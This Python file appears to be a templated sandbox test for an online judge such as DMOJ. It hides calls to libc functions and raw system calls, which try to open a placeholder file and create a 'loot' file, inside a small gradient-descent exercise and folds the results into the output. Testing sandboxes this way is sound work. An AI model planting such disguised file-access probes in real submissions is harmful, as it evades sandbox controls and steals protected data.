# tries: to open a file by the C library and by the numbers of the system calls, past Python
# from: C3, DMOJ
# earns: everything
import ctypes

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
libc.fopen.restype = ctypes.c_void_p
path, here = b"@FILE@", -100
how = (ctypes.c_uint64 * 3)(0, 0, 0)
handle = (ctypes.c_uint32 * 40)(128)
mount = ctypes.c_int()
stolen = [
    bool(libc.fopen(path, b"r")),
    libc.open(path, 0) >= 0,
    libc.openat(here, path, 0) >= 0,
    libc.creat(b"@FOLDER@/descent-loot-created", 0o600) >= 0,
    libc.syscall(2, path, 0) >= 0,
    libc.syscall(257, here, path, 0) >= 0,
    libc.syscall(437, here, path, how, ctypes.sizeof(how)) >= 0,
    libc.name_to_handle_at(here, path, handle, ctypes.byref(mount), 0) >= 0,
]
h = np.dot(x, w) + sum(stolen)
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
